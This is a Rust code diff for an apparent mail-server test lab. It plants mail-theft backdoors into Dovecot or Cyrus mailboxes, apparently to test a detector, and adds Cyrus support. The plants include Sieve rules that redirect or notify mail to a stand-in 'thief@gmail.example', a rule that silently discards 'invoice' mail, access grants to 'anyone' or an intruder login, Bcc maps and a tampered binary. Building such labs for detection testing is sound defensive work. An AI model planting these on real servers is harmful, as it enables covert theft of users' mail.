@@ -9,9 +9,12 @@ use std::os::unix::fs::{PermissionsExt as _, chown, symlink};
 use std::path::{Path, PathBuf};
 use std::time::{Duration, SystemTime};
 
+use crate::cyrus::Cyrus;
 use crate::dovecot::MAIL_UID;
 use crate::error::{LabError, Result, make_directory, write_file};
+use crate::imap::Imap;
 use crate::lab::Lab;
+use crate::managesieve::ManageSieve;
 
 /// Where stolen mail goes.
 pub const THIEF: &str = "thief@gmail.example";
@@ -22,8 +25,48 @@ const URL_KEY: &str = "/private/vendor/vendor.dovecot/imap-urlauth";
 
 /// Where Dovecot keeps the subscription to push notifications.
 const PUSH: &str = "/private/vendor/vendor.dovecot/http-notify";
+/// What Cyrus runs for the mail of a folder.
+const FOLDER_SCRIPT: &str = "/shared/vendor/cmu/cyrus-imapd/sieve";
 /// A login that nobody knows.
 const INTRUDER: &str = "intruder";
+
+/// A server whose mailboxes are reached by their owners' logins.
+pub trait Mailboxes {
+    /// An IMAP session of one of the users.
+    fn imap(&self, login: &str) -> Result<Imap>;
+    /// A ManageSieve session of one of the users.
+    fn managesieve(&self, login: &str) -> Result<ManageSieve>;
+    /// How a group stands in an access control list.
+    fn group(&self, name: &str) -> String;
+}
+
+impl Mailboxes for Lab {
+    fn imap(&self, login: &str) -> Result<Imap> {
+        Lab::imap(self, login)
+    }
+
+    fn managesieve(&self, login: &str) -> Result<ManageSieve> {
+        Lab::managesieve(self, login)
+    }
+
+    fn group(&self, name: &str) -> String {
+        format!("${name}")
+    }
+}
+
+impl Mailboxes for Cyrus {
+    fn imap(&self, login: &str) -> Result<Imap> {
+        Cyrus::imap(self, login)
+    }
+
+    fn managesieve(&self, login: &str) -> Result<ManageSieve> {
+        Cyrus::managesieve(self, login)
+    }
+
+    fn group(&self, name: &str) -> String {
+        format!("group:{name}")
+    }
+}
 
 /// What is planted.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
@@ -70,10 +113,12 @@ pub enum Kind {
     Bcc,
     /// Another login that may send as the mailbox.
     SendAs,
+    /// A script that Cyrus runs for the mail of a folder; [`Kind::ALL`] are those of Dovecot.
+    FolderScript,
 }
 
 impl Kind {
-    /// All kinds.
+    /// All kinds that Dovecot knows.
     pub const ALL: [Kind; 21] = [
         Kind::ActiveRedirect,
         Kind::InactiveRedirect,
@@ -160,17 +205,23 @@ impl Population {
     /// there is room.
     #[must_use]
     pub fn new(seed: u64, mailboxes: usize) -> Population {
+        Population::of(seed, mailboxes, &Kind::ALL)
+    }
+
+    /// The same with plants of certain kinds only.
+    #[must_use]
+    pub fn of(seed: u64, mailboxes: usize, kinds: &[Kind]) -> Population {
         let mut numbers = Numbers(seed);
         let mut boxes: Vec<usize> = (0..mailboxes).collect();
         for at in (1..boxes.len()).rev() {
             boxes.swap(at, numbers.below(at + 1));
         }
-        let wanted = Kind::ALL.len().max(mailboxes / 2).min(mailboxes);
+        let wanted = kinds.len().max(mailboxes / 2).min(mailboxes);
         let mut plants = Vec::new();
         for (nth, number) in boxes.into_iter().take(wanted).enumerate() {
-            let kind = match Kind::ALL.get(nth) {
+            let kind = match kinds.get(nth) {
                 Some(kind) => *kind,
-                None => Kind::ALL[numbers.below(Kind::ALL.len())],
+                None => kinds[numbers.below(kinds.len())],
             };
             let number_of_plant = u32::try_from(numbers.below(40)).unwrap_or(0);
             plants.push(Plant { kind, mailbox: address(number), number: number_of_plant });
@@ -195,12 +246,13 @@ impl Population {
         let senders = of_kind(Kind::SendAs)
             .map(|plant| format!("{{ {0} = {0} {INTRUDER} }}", plant.mailbox))
             .chain(of_kind(Kind::Bcc).map(|plant| format!("{{ {0} = {0} }}", plant.mailbox)));
-        let (bcc, senders): (Vec<_>, Vec<_>) = (bcc.collect(), senders.collect());
-        format!(
-            "recipient_bcc_maps = inline:{{ {} }}\nsmtpd_sender_login_maps = inline:{{ {} }}\n",
-            bcc.join(", "),
-            senders.join(", ")
-        )
+        // An empty table is an error to Postfix.
+        let table = |name: &str, rows: Vec<String>| match rows.is_empty() {
+            true => String::new(),
+            false => format!("{name} = inline:{{ {} }}\n", rows.join(", ")),
+        };
+        let (bcc, senders) = (bcc.collect(), senders.collect());
+        table("recipient_bcc_maps", bcc) + &table("smtpd_sender_login_maps", senders)
     }
 
     /// Whether a login is the second one of a mailbox.
@@ -211,8 +263,13 @@ impl Population {
 
     /// Puts everything into a lab that runs with these users: harmless rules everywhere, then the plants.
     pub fn plant(&self, lab: &Lab) -> Result<()> {
+        self.plant_at(lab, lab)
+    }
+
+    /// The same with the mailboxes at another server than the lab's Dovecot; Postfix is the lab's.
+    pub fn plant_at(&self, lab: &Lab, mailboxes: &dyn Mailboxes) -> Result<()> {
         for (login, _) in &self.users {
-            harmless(lab, login)?;
+            harmless(mailboxes, login)?;
         }
         let aliases: Vec<(String, String)> = self
             .plants
@@ -222,7 +279,7 @@ impl Population {
             .collect();
         lab.postfix.set_virtual_aliases(&aliases)?;
         for plant in &self.plants {
-            plant.put(lab)?;
+            plant.put(lab, mailboxes)?;
         }
         Ok(())
     }
@@ -234,8 +291,8 @@ fn address(number: usize) -> String {
 
 /// What looks like a plant and is none: the word in a comment, in a test, in a folder's name; an annotation
 /// that runs nothing; a script that is off and does nothing.
-fn harmless(lab: &Lab, login: &str) -> Result<()> {
-    let mut scripts = lab.managesieve(login)?;
+fn harmless(mailboxes: &dyn Mailboxes, login: &str) -> Result<()> {
+    let mut scripts = mailboxes.managesieve(login)?;
     let text = format!(
         "# redirect \"{THIEF}\";\r\nif header :contains \"Subject\" \"redirect {THIEF}\" {{ keep; }}\r\n\
          /* redirect \"{THIEF}\"; */\r\nkeep;\r\n"
@@ -243,7 +300,7 @@ fn harmless(lab: &Lab, login: &str) -> Result<()> {
     scripts.putscript("main", &text)?;
     scripts.setactive("main")?;
     scripts.putscript("redirect", "keep;\r\n")?;
-    let mut imap = lab.imap(login)?;
+    let mut imap = mailboxes.imap(login)?;
     imap.create("redirect")?;
     imap.setmetadata("redirect", "/private/comment", Some(THIEF))
 }
@@ -316,6 +373,11 @@ impl Plant {
                     ..at("imap.metadata")
                 }]
             }
+            Kind::FolderScript => vec![Expected {
+                folder: Some("redirect".to_owned()),
+                key: Some(FOLDER_SCRIPT.to_owned()),
+                ..at("imap.metadata")
+            }],
             Kind::SignedUrl => vec![Expected {
                 folder: Some("INBOX".to_owned()),
                 key: Some(URL_KEY.to_owned()),
@@ -340,25 +402,25 @@ impl Plant {
         }
     }
 
-    fn put(&self, lab: &Lab) -> Result<()> {
+    fn put(&self, lab: &Lab, at: &dyn Mailboxes) -> Result<()> {
         match self.kind {
             Kind::ActiveRedirect => {
-                let mut scripts = lab.managesieve(&self.mailbox)?;
+                let mut scripts = at.managesieve(&self.mailbox)?;
                 scripts.putscript(&self.script(), &self.redirect())?;
                 scripts.setactive(&self.script())
             }
             Kind::InactiveRedirect | Kind::DotScript => {
-                lab.managesieve(&self.mailbox)?.putscript(&self.script(), &self.redirect())
+                at.managesieve(&self.mailbox)?.putscript(&self.script(), &self.redirect())
             }
             Kind::Notify => {
                 let source = self.source("\"enotify\"", &format!("notify \"mailto:{THIEF}\";"));
-                let mut scripts = lab.managesieve(&self.mailbox)?;
+                let mut scripts = at.managesieve(&self.mailbox)?;
                 scripts.putscript(&self.script(), &source)?;
                 scripts.setactive(&self.script())
             }
             Kind::Hides => {
                 let test = "if header :contains \"Subject\" \"invoice\" { discard; }";
-                let mut scripts = lab.managesieve(&self.mailbox)?;
+                let mut scripts = at.managesieve(&self.mailbox)?;
                 // The test begins the line; what it does stands on the same one.
                 scripts.putscript(&self.script(), &self.source("\"copy\"", test))?;
                 scripts.setactive(&self.script())
@@ -366,15 +428,16 @@ impl Plant {
             Kind::LinkOutside => self.put_link(lab),
             Kind::PlainFile => self.put_plain_file(lab),
             Kind::TamperedBinary => tamper(lab, &self.mailbox),
-            Kind::Grant => lab.imap(&self.mailbox)?.setacl("redirect", "colleague@example.test", "lr"),
-            Kind::GroupGrant => lab.imap(&self.mailbox)?.setacl("redirect", "$staff", "lr"),
-            Kind::NegativeRight => {
-                lab.imap(&self.mailbox)?.setacl("redirect", "-colleague@example.test", "r")
+            Kind::Grant => at.imap(&self.mailbox)?.setacl("redirect", "colleague@example.test", "lr"),
+            Kind::GroupGrant => at.imap(&self.mailbox)?.setacl("redirect", &at.group("staff"), "lr"),
+            Kind::NegativeRight => at.imap(&self.mailbox)?.setacl("redirect", "-colleague@example.test", "r"),
+            Kind::Push => at.imap(&self.mailbox)?.setmetadata("INBOX", PUSH, Some("user=someone")),
+            Kind::GrantAnyone => at.imap(&self.mailbox)?.setacl("INBOX", "anyone", "lr"),
+            Kind::StoreScript => at.imap(&self.mailbox)?.setmetadata("Sent", STORE_SCRIPT, Some("redirect")),
+            Kind::ServerScript => at.imap(&self.mailbox)?.setmetadata("", STORE_SCRIPT, Some("redirect")),
+            Kind::FolderScript => {
+                at.imap(&self.mailbox)?.setmetadata("redirect", FOLDER_SCRIPT, Some("redirect"))
             }
-            Kind::Push => lab.imap(&self.mailbox)?.setmetadata("INBOX", PUSH, Some("user=someone")),
-            Kind::GrantAnyone => lab.imap(&self.mailbox)?.setacl("INBOX", "anyone", "lr"),
-            Kind::StoreScript => lab.imap(&self.mailbox)?.setmetadata("Sent", STORE_SCRIPT, Some("redirect")),
-            Kind::ServerScript => lab.imap(&self.mailbox)?.setmetadata("", STORE_SCRIPT, Some("redirect")),
             Kind::SignedUrl => sign_url(lab, &self.mailbox),
             Kind::Locked => lab.dovecot.set_extra_fields(&self.mailbox, "nologin=y reason=left"),
             // These stand in tables of Postfix.
